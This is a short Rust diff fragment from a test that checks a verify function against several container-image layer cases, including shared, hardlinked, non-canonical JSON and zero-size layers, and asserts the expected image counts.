+    for (case, bytes, images) in [
+        ("shared-layer", case_shared_layer(), 2),
+        ("hardlink-layer", case_hardlink_layer(), 2),
+        ("noncanonical-json", case_noncanonical_json(), 1),
+        ("zero-size-layer", case_zero_size_layer(), 1),
+    ] {
+        let r = verify(&bytes);
+        assert_ok(&r, case);
+        assert_eq!(r.images.len(), images, "{case}: {:#?}", r.images);
     }
 }
